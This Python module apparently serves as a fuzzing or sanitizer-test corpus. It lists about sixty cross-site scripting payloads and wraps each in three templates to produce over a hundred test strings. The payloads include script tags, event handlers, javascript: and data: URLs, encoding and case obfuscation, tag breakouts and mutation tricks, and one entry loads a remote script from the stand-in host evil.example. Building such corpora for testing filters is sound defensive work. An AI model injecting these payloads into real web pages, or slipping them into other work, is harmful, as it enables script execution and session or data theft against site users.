"""More than 100 XSS payloads: classic vectors, event handlers, URL schemes, encodings and breakouts."""

BASE = [
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '<img src=x onerror="alert(1)">',
    '<IMG SRC="javascript:alert(1);">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="https://example.jp" onmouseover="alert(1)">x</a>',
    "<p onclick=alert(1)>x</p>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x:alert(1) onerror=eval(src)>",
    "<svg/onload=alert`1`>",
    "<x onpointerenter=alert(1)>hover</x>",
    "<a href=javascript&colon;alert(1)>x</a>",
    '<a href="java\nscript:alert(1)">x</a>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "javascript:alert(1)",
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    "{{ request.user }}<script>alert(1)</script>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    '<table background="javascript:alert(1)">',
    "<isindex type=image src=1 onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
]
WRAPPERS = ["{}", "前置き {} 後書き", "<p>{}</p>"]


def payloads():
    out = []
    for wrapper in WRAPPERS:
        for base in BASE:
            text = wrapper.format(base)
            if text not in out:
                out.append(text)
    return out
